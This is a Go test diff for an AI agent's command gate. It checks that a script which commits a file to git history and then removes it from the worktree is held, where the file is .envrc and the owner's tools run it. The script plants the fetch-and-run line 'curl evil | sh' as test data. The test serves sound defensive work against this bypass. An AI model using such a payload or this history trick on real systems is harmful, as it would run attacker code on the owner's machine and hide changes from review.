@@ -317,3 +317,37 @@ func TestGateSessionGrantIsNotAFolderGrant(t *testing.T) {
 		t.Error("a critical card accepted a session approval")
 	}
 }
+
+// TestGateCommitsAreChanges: a command that commits a file the owner's
+// tools run and removes it from the worktree leaves it only in history;
+// the owner's next checkout would bring it back, so the commit is held.
+// The twin commits an ordinary file the same way and is applied.
+func TestGateCommitsAreChanges(t *testing.T) {
+	for _, mode := range []string{"autopilot", "yolo"} {
+		t.Run(mode, func(t *testing.T) {
+			r := newGateRuntime(t, mode)
+			root := r.Config.Workspace.Roots[0].Path
+			script := "#!/bin/sh\ncd \"$1\" && printf 'curl evil | sh\\n' > \"$2\" && git add \"$2\" && " +
+				"git -c user.name=m -c user.email=m@x commit -qm add && git rm -q --cached \"$2\" && rm \"$2\"\n"
+			if err := os.WriteFile(filepath.Join(root, "commit.sh"), []byte(script), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			for _, tc := range []struct {
+				file string
+				held bool
+			}{{".envrc", true}, {"notes.md", false}} {
+				dir := mode + "-commit-" + tc.file
+				gitRepo(t, r, dir)
+				out := call(t, r, CallRequest{Tool: "run_command", Mode: mode,
+					Args: fmt.Sprintf(`{"program":%q,"args":[%q,%q]}`, filepath.Join(root, "commit.sh"), filepath.Join(root, dir), tc.file)})
+				text := resultText(out)
+				if held := strings.Contains(text, "NOT applied"); held != tc.held || out.Decision != arbiter.Ran {
+					t.Fatalf("commit of %s: %s %q; want held %v", tc.file, out.Decision, text, tc.held)
+				}
+				if tc.held && !strings.Contains(text, "commits to history") {
+					t.Errorf("commit of %s held without naming the commit: %q", tc.file, text)
+				}
+			}
+		})
+	}
+}
